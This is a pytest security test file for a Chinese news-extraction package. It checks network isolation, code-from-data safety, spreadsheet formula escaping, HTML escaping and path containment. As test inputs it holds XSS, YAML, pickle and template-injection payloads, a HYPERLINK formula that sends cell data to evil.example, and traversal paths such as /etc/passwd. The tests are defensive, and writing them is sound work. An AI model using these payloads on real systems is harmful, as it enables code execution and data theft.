"""Nothing is let in or out: no network, no code from data, no formula, no markup, no path beyond the folder."""

from __future__ import annotations

import ast
import csv
import json
import os
import stat
import subprocess
import sys
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import nlp_extract as nx
from nlp_extract.export.csv import harmless
from nlp_extract.export.whole import whole
from nlp_extract.facts import ArticleRow, Count, ErrorRow
from nlp_extract.tagger.pack import FILES, SHIPPED, PackError, read_pack, write_pack

PACKAGE = Path(nx.__file__).parent
ATTACK = "<script>alert(1)</script>\"' onload=alert(2) x='<img src=//evil.example onerror=alert(3)>"

# Network and code


WATCHED = """
import sys
from pathlib import Path

def refuse(event, arguments):
    if event.startswith(("socket.connect", "socket.getaddrinfo", "socket.gethostby", "socket.sendto", "urllib")):
        raise RuntimeError(f"the network: {event} {arguments}")
    if watching and event in ("pickle.find_class", "os.system", "os.exec", "os.posix_spawn", "subprocess.Popen",
                              "marshal.loads", "code.__new__", "compile", "exec", "import", "ctypes.dlopen"):
        raise RuntimeError(f"code: {event} {arguments}")

watching = False
sys.addaudithook(refuse)

import nlp_extract as nx

def everything(source, out):
    facts = nx.extract(source)
    facts.to_csv(out)
    facts.to_annotations(out / "annotations.jsonl")
    list(nx.read_annotations(out / "annotations.jsonl"))
    facts.to_sqlite(out / "facts.sqlite")
    return facts._repr_html_() + str(facts.entities) + str(facts.wide()) + str(facts.check_sums())

out = Path(sys.argv[2])
nlp = nx.load()
everything(Path(sys.argv[1]), out)            # all is imported now
nx.extract(Path(sys.argv[1]), nlp=nlp)
facts = nx.extract(Path(sys.argv[1]))
facts.report(out / "report.html")
watching = True
everything(Path(sys.argv[3]), out)
print("done")
"""


def test_the_network_is_never_used_and_data_never_runs(examples: Path, tmp_path: Path) -> None:
    """Python's audit hooks see every socket, import, compilation and process."""
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    texts = {
        "object.md": "---\ntitle: !!python/object/apply:os.system ['touch made']\n---\n审计26家。",
        "module.md": "---\ntitle: !!python/module:this\n---\n审计26家。",
        "page.html": f"<html><head><title>{ATTACK}</title></head><p>审计26家，{ATTACK}</p></html>",
        "template.txt": "{{ 7*7 }} {% import os %} ${7*7} __import__('os').system('touch made') 审计26家。",
        "lines.jsonl": json.dumps({"text": "审计26家。", "id": "../../../made", "title": ATTACK}),
        "pickle.txt": b"cos\nsystem\n(S'touch made'\ntR.",
    }
    for name, text in texts.items():
        (hostile / name).write_bytes(text if isinstance(text, bytes) else text.encode())
    command = [sys.executable, "-c", WATCHED, str(examples), str(tmp_path / "out"), str(hostile)]
    done = subprocess.run(command, capture_output=True, text=True, cwd=tmp_path)
    assert done.stdout == "done\n", done.stderr[-2000:]
    assert not (tmp_path / "made").exists()


ALLOWED = {("corpus/workers.py", "pickle")}
"""Workers are this program's own processes, asked through a pipe that nobody else can write to."""


def test_no_module_can_run_data() -> None:
    found = set()
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = [a.name for a in node.names] if isinstance(node, (ast.Import, ast.ImportFrom)) else []
            if isinstance(node, ast.ImportFrom):
                names.append(node.module or "")
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                names.append(node.func.id)
            risky = {
                "pickle",
                "marshal",
                "shelve",
                "dill",
                "cloudpickle",
                "joblib",
                "eval",
                "exec",
                "compile",
            }
            found |= {(path.relative_to(PACKAGE).as_posix(), name) for name in risky.intersection(names)}
    assert found == ALLOWED


def test_workers_import_nothing_from_the_working_directory(tmp_path: Path) -> None:
    for name in ("json", "sys", "nlp_extract", "signal"):
        (tmp_path / f"{name}.py").write_text("open('made', 'w').close()")
    program = (
        "import nlp_extract as nx; print(len(nx.extract(['审计26家。', '检查3家。'], workers=1).counts))"
    )
    done = subprocess.run([sys.executable, "-I", "-c", program], capture_output=True, text=True, cwd=tmp_path)
    assert done.stdout == "2\n", done.stderr
    assert not (tmp_path / "made").exists()


# Models


def model(name: str, graph: bytes, folder: Path) -> Path:
    """The package's model with another network, vouched for by its manifest."""
    shipped = read_pack(SHIPPED)
    others = {part: (SHIPPED / FILES[part]).read_bytes() for part in ("fields", "vocabulary")}
    write_pack(folder / name, graph=graph, labels=shipped.labels, figures={}, version="0", **others)
    return folder / name


def test_a_model_cannot_bring_code_or_read_other_files(tmp_path: Path) -> None:
    onnx = pytest.importorskip("onnx", reason="pip install 'nlp-extract[train]'")
    helper = onnx.helper
    ids = helper.make_tensor_value_info("ids", onnx.TensorProto.INT64, [None, None])
    states = helper.make_tensor_value_info("states", onnx.TensorProto.FLOAT, [None, None, 256])
    custom = helper.make_node("Run", ["ids"], ["states"], domain="evil.example")
    secret = onnx.TensorProto(name="w", data_type=onnx.TensorProto.FLOAT, dims=[1])
    secret.data_location = onnx.TensorProto.EXTERNAL
    (tmp_path / "secret").write_bytes(b"1234")
    secret.external_data.add(key="location", value=str(tmp_path / "secret"))
    outside = helper.make_node("Identity", ["w"], ["states"])
    graphs = {
        "custom": helper.make_graph([custom], "g", [ids], [states]),
        "outside": helper.make_graph([outside], "g", [ids], [states], [secret]),
    }
    for name, graph in graphs.items():
        opsets = [helper.make_opsetid("", 17), helper.make_opsetid("evil.example", 1)]
        made = helper.make_model(graph, opset_imports=opsets, ir_version=8)
        with pytest.raises(PackError):
            nx.Tagger.load(model(name, made.SerializeToString(), tmp_path))


@pytest.mark.parametrize("name", [*FILES.values(), "manifest.json"])
def test_a_model_with_one_bit_changed_is_refused_or_another_one(name: str, tmp_path: Path) -> None:
    for file in (*FILES.values(), "manifest.json"):
        data = bytearray((SHIPPED / file).read_bytes())
        if file == name:
            data[data.index(b'"tagger.onnx": "') + 16 if name.endswith("json") else len(data) // 2] ^= 1
        (tmp_path / file).write_bytes(data)
    with pytest.raises(PackError, match="checksum"):
        read_pack(tmp_path)


# Spreadsheets


@given(st.text("=+-@＝＋－＠ \t\r\n\ufeff\u200b;,\"'a1审", max_size=6))
def test_no_cell_begins_as_a_formula(text: str) -> None:
    seen = harmless(text).lstrip(" \t\r\n\ufeff\u200b")
    assert len(seen) < 2 or seen[0] not in "=+-@＝＋－＠"
    assert harmless(text).removeprefix("'") == text.removeprefix("'")


FORMULA = '=HYPERLINK("http://evil.example?"&A1,"点击")'
ATTACKED = nx.Facts.from_records(
    {
        "articles": [
            ArticleRow(article_id=FORMULA, title=FORMULA, source=FORMULA, text=FORMULA, path=FORMULA)
        ],
        "counts": [Count(article_id=FORMULA, text="+1%", item=FORMULA, sentence=f" {FORMULA}")],
        "errors": [ErrorRow(path=FORMULA, stage="read", reason=f"@{FORMULA}", remedy="-1+1")],
    }
)


def test_tables_hold_no_formulas(tmp_path: Path) -> None:
    for path in ATTACKED.to_csv(tmp_path):
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                assert not any(cell.strip().startswith(tuple("=+-@")) for cell in row if len(cell) > 1)
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(ATTACKED.to_excel(tmp_path / "facts.xlsx"))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert FORMULA in [cell.value for cell in cells]
    assert all(cell.data_type != "f" and cell.hyperlink is None for cell in cells)


# Markup


def test_what_is_shown_is_escaped(tmp_path: Path) -> None:
    from selectolax.lexbor import LexborHTMLParser

    from nlp_extract.display import render

    text = f"市审计局审计26家{ATTACK}，2024年5月6日。{ATTACK}"
    names = ("article_id", "title", "source", "site", "reporter", "editor", "url", "path")
    article = nx.Article(text, **{name: f"{ATTACK}{name}" for name in names})
    refused = ErrorRow(path=ATTACK, article_id=ATTACK, stage="read", reason=ATTACK, remedy=ATTACK)
    facts = nx.extract([article, refused])
    shown = {
        "facts": facts._repr_html_(),
        "article": article.show(facts)._repr_html_(),
        "context": facts.context(facts.counts.iloc[0])._repr_html_(),
        "report": facts.report(tmp_path / "report.html", title=ATTACK).read_text(encoding="utf-8"),
        "displaCy": render(nx.load()(text)),
    }
    for name, html in shown.items():
        tree = LexborHTMLParser(html)
        assert "alert" in html, name
        assert not tree.css("img"), name
        assert not [script for script in tree.css("script") if "alert(1)" in script.text()], name
        for node in tree.css("*"):
            assert not [key for key in node.attributes if key.startswith("on")], (name, node.html)


# Paths and files


@pytest.mark.parametrize(
    "article_id",
    ["../../up", "/etc/passwd", "..", ".", "C:\\x", "a/../../b", "\x00", "con", "長" * 300, "~", "a\nb"],
)
def test_what_an_article_is_called_never_leads_out_of_the_folder(article_id: str, tmp_path: Path) -> None:
    home = tmp_path / "a" / "b" / "c"
    facts = nx.extract(
        nx.Article("市审计局审计26家。", article_id=article_id, path="../../../up", url="file:///etc/up")
    )
    facts.to_annotations(home / "brat")
    facts.to_csv(home / "csv")
    everything = {path for path in tmp_path.rglob("*") if path.is_file()}
    assert everything and all(path.parent in (home / "brat", home / "csv") for path in everything)
    [record] = nx.read_annotations(home / "brat")
    assert record["id"] == facts.articles["article_id"].iloc[0]


def test_annotations_are_read_from_their_folder_alone(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("秘密。", encoding="utf-8")
    (tmp_path / "secret.ann").write_text("", encoding="utf-8")
    folder = tmp_path / "brat"
    nx.extract(nx.Article("市审计局审计26家。", article_id="a")).to_annotations(folder)
    (folder / "articles.json").write_text('{"../secret": {"id": "x"}}', encoding="utf-8")
    with pytest.raises(ValueError, match=r"has no \.ann file"):
        list(nx.read_annotations(folder))


@pytest.mark.skipif(os.name != "posix", reason="permissions as POSIX has them")
def test_what_is_being_written_is_private(tmp_path: Path) -> None:
    with whole(tmp_path) as beside:
        assert beside.parent == tmp_path
        assert stat.S_IMODE(beside.stat().st_mode) == 0o700


def test_a_buffer_s_name_opens_nothing() -> None:
    buffer = BytesIO("市审计局审计26家。".encode())
    buffer.name = "/etc/passwd"  # type: ignore[attr-defined]
    [article] = nx.read_articles(buffer)
    assert article.text == "市审计局审计26家。"
